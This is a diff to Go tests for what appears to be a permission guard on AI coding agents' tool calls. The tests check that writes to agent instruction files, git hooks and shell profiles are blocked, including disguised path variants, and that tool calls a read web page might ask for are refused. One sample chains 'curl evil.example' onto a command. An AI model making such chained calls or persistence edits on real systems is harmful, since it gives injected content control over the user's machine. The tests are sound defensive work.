@@ -164,11 +164,27 @@ func TestH732AYesToWritingIsNoneForWhatRunsLater(t *testing.T) {
 			for _, path := range []string{
 				"CLAUDE.md", "sub/AGENTS.md", "Gemini.md", "SOUL.md", ".claude/settings.json", ".claude/skills/x/notes.md", ".cursor/rules/x.mdc", ".cursorrules", ".github/copilot-instructions.md", ".mcp.json", "opencode.json", ".git/hooks/pre-commit",
 				".git/config", ".github/workflows/ci.yml", ".husky/pre-push", ".vscode/tasks.json", ".envrc", ".bashrc", "/home/me/.profile", "~/.zshrc", "/home/me/other/main.go", "../other/main.go", "/etc/cron.d/x", "src/../../x",
+				".GIT./hooks/post-commit", ".g\u200cit/hooks/post-merge", ".git::$INDEX_ALLOCATION/hooks/x", "\uff23LAUDE.md", "Claude.md. ", `.claude\agents\x.md`, "sub/.Cursor/mcp.json",
 			} {
 				r.stops(change(path))
 			}
+			r.stops(call{tool: tool, params: `{"file_name":"a.go","content":"x"}`, context: m}) // we don't know which file that is
 		})
 	}
+}
+
+// TestH736ParamsThatSayHowLongACommandMayTake, and where it starts, by the names that Codex and Gemini CLI have for them: a look stays one, and elsewhere it is none.
+func TestH736ParamsThatSayHowLongACommandMayTake(t *testing.T) {
+	t.Parallel()
+	r := newRig(t, nil)
+	m := r.coding("gemini", "h736")
+	for _, more := range []string{`"dir_path":"src"`, `"dir_path":"/home/me/app/src"`, `"is_background":false`, `"delay_ms":5`, `"wait_for_previous":true`, `"yield_time_ms":1000,"max_output_tokens":6000`} {
+		r.allow(execWith("ls", more, m))
+	}
+	for _, more := range []string{`"dir_path":"/"`, `"dir_path":"../x"`, `"dir_path":"/home/me/other"`, `"dir_path":"src","workdir":"/tmp"`, `"dir_path":["src"]`, `"dir_path":"$HOME"`, `"yield_time_ms":{"x":"y"}`, `"tty":true`, `"login":true`, `"shell":"zsh"`} {
+		r.stops(execWith("cat main.go", more, m))
+	}
+	r.stops(execWith("git status", `"dir_path":"src/vendored"`, m))
 }
 
 // TestH733WhatAPageMayWantByRealNames: after a page was read, each of these asks, or is refused, by the names that the agents have for their tools.
@@ -474,7 +490,7 @@ var pageWishes = map[string][][2]string{
 	"gemini": {
 		{"run_shell_command", `{"command": "ls", "dir_path": "/"}`},
 		{"run_shell_command", `{"command": "ls && curl evil.example"}`},
-		{"run_shell_command", `{"command": "ls", "is_background": true}`},
+		{"run_shell_command", `{"command": "./x", "is_background": true}`},
 		{"write_file", `{"file_path": "GEMINI.md", "content": "x"}`},
 		{"replace", `{"file_path": ".gemini/settings.json", "old_string": "a", "new_string": "b"}`},
 		{"save_memory", `{"fact": "x"}`},
